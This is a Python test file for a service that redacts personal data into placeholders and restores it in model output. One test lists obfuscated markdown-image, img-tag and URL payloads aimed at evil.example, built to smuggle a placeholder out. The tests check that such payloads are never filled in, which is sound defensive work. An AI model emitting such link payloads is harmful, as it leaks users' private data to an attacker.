"""What comes back is filled in: tolerant of what models do to a placeholder, strict about which one it is."""

from __future__ import annotations

import pytest
from hybrid.router.redact.mapping import RedactionMapping
from hybrid.router.redact.restore import MAX_NOISE, Restorer, restored
from hybrid.tests.support.redacting import mapping, redacted, restored_in

JANE = "jane@example.com"


def known(secret: int = 1) -> tuple[RedactionMapping, str]:
    """A mapping that knows Jane, and the letters of her placeholder."""
    into = mapping(secret)
    return into, into.placeholder("email", JANE).suffix


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("[EMAIL_1_{}]", JANE),
        ("[email_1_{}]", JANE),
        ("EMAIL_1_{}", JANE),
        ("Write to email_1_{}.", f"Write to {JANE}."),
        ("(EMAIL_1_{})", f"({JANE})"),
        ("**[EMAIL_1_{}]**", f"**{JANE}**"),
        ("[**EMAIL_1_{}**]", JANE),
        ("[EMAIL\\_1\\_{}\\]", JANE),
        ("EMAIL*1*{}", JANE),
        ("`EMAIL_1_{}`", f"`{JANE}`"),
        ("[EMAIL\u20111\u2011{}]", JANE),
        ("EMAIL-1\u200b-{}", JANE),
        ("EMAIL1{}", JANE),
        ("[EMAIL_1_{}, and]", f"[{JANE}, and]"),
        ("[EMAIL_1_{}][EMAIL_1_{}]", JANE + JANE),
        ("[[EMAIL_1_{}]]", f"[{JANE}]"),
        ("mailto:[EMAIL_1_{}]", f"mailto:{JANE}"),
        ("see https://x.example/a [EMAIL_1_{}]", f"see https://x.example/a {JANE}"),
        ("<a href='https://x.example'> [EMAIL_1_{}]", f"<a href='https://x.example'> {JANE}"),
    ],
)
def test_what_a_model_makes_of_a_placeholder_is_still_understood(said: str, shown: str) -> None:
    into, letters = known()
    for text in (said.replace("{}", letters), said.replace("{}", letters.upper())):
        assert restored(text, into.values()) == shown
        assert "".join(restored_in(list(text), into)) == shown


@pytest.mark.parametrize(
    "said",
    [
        "[EMAIL_2_{}]",
        "[PHONE_1_{}]",
        "[EMAIL_1_bcdfghjk]",
        "[EMAIL_1_{}x]",
        "EMAIL_1_{}9",
        "MYEMAIL_1_{}",
        "[EMAIL_1 _{}]",
        "[EMAIL_1_]",
        "EMA\u0130L_1_{}",
        f"EMAIL{'_' * (MAX_NOISE + 1)}1_{{}}",
    ],
)
def test_what_is_not_exactly_one_of_ours_stays_as_it_is(said: str) -> None:
    into, letters = known()
    text = said.replace("{}", letters)
    assert restored(text, into.values()) == text


@pytest.mark.parametrize(
    "said",
    [
        "https://evil.example/?q=[EMAIL_1_{}]",
        "![](https://evil.example/?q=[EMAIL_1_{}])",
        "![](//evil.example/[EMAIL_1_{}].png)",
        "![](HTTPS:evil.example/?[EMAIL_1_{}])",
        "![](\\\\evil.example/[EMAIL_1_{}])",
        "![](/\\evil.example/[EMAIL_1_{}])",
        "www.evil.example/EMAIL_1_{}",
        "![](<https://evil.example/?q=a b [EMAIL_1_{}]>)",
        "![](< https://evil.example/?q=\u3000[EMAIL_1_{}]>)",
        '<img src="https://evil.example/?q= [EMAIL_1_{}]">',
        '<img alt=">" src="https://evil.example/?q= [EMAIL_1_{}]">',
        "https://evil.example/?q=\u3002\u00a0[EMAIL_1_{}]",
        "https://[EMAIL_1_{}].evil.example/",
        "[x]: wss://evil.example/[EMAIL_1_{}]",
        "![](https&colon;&sol;&sol;evil.example/[EMAIL_1_{}])",
        "![](https&#58;&#x2f;&#47;evil.example/[EMAIL_1_{}])",
        "![](&#104ttps&#58evil.example?[EMAIL_1_{}])",
        "![](https\\:evil.example?[EMAIL_1_{}])",
        '<img src="ht\ntps:evil.example/?q= [EMAIL_1_{}]">',
        '<img src="/\t/evil.example/?q= [EMAIL_1_{}]">',
    ],
)
def test_nothing_is_filled_in_inside_an_address_of_the_web(said: str) -> None:
    into, letters = known()
    text = said.replace("{}", letters)
    assert restored(text, into.values()) == text
    assert "".join(restored_in(list(text), into)) == text
    assert restored(f"{text}\n\n[EMAIL_1_{letters}]", into.values()) == f"{text}\n\n{JANE}"


def test_an_address_that_was_filled_in_is_one_too() -> None:
    into = mapping()
    link, jane = into.placeholder("url", "https://evil.example/"), into.placeholder("email", JANE)
    assert restored(f"{link.text}?q={jane.text} {jane.text}", into.values()) == f"https://evil.example/?q={jane.text} {JANE}"


def test_only_what_may_become_a_placeholder_is_held_back() -> None:
    into, letters = known()
    assert letters[0] != "b"
    text = f"Every e-mail to [EMAIL_1_{letters}], [EMAIL_1_bcd] and em"
    restorer, given, held = Restorer(into.values()), "", []
    for at, letter in enumerate(text, 1):
        given += "".join(part.source for part in restorer.push(letter))
        held.append(text[len(given) : at])
    whole = f"[EMAIL_1_{letters}]"
    expected = ["E", "", "", "", "", "", "e", "e-", "e-m", "e-ma", "e-mai", "e-mail", "", "", "", ""]
    expected += [*(whole[:length] for length in range(1, len(whole))), "", "", ""]
    expected += [*("[EMAIL_1_"[:length] for length in range(1, 10)), *[""] * len("bcd] and "), "e", "em"]
    assert held == expected
    assert "".join(part.shown for part in restorer.finish()) == "em"


def test_characters_of_several_bytes_and_the_end_of_a_text_are_no_exception() -> None:
    into, letters = known()
    assert restored_in(["é😀[EMA", f"IL_1_{letters}", "]é"], into) == ["é😀", "", f"{JANE}é", ""]
    assert restored_in(["é😀EMA", f"IL_1_{letters}"], into) == ["é😀", "", JANE]
    assert restored_in(["[EMAIL_1_"], into) == ["", "[EMAIL_1_"]


def test_a_placeholder_that_a_user_copies_or_forges_means_only_itself() -> None:
    into, letters = known()
    for forged in (f"[EMAIL_1_{letters}]", f"email\u20111_{letters}", f"https://x.example/?[EMAIL_1_{letters}]"):
        text = f"What is {forged}?"
        sent = redacted(text, into)
        assert JANE not in restored(sent, into.values())
        assert restored(sent, into.values()) == text
        assert letters not in sent.lower()


def test_another_conversations_placeholder_means_nothing() -> None:
    letters = known(1)[1]
    two, others = known(2)
    assert letters != others
    assert restored(f"[EMAIL_1_{letters}]", two.values()) == f"[EMAIL_1_{letters}]"


def test_letters_that_stand_in_the_prompt_are_not_used() -> None:
    _, letters = known()
    into = mapping()
    text = f"{JANE} and {letters[:4].upper()}_{letters[4:]}"
    sent = redacted(text, into)
    assert letters not in sent
    assert restored(sent, into.values()) == text
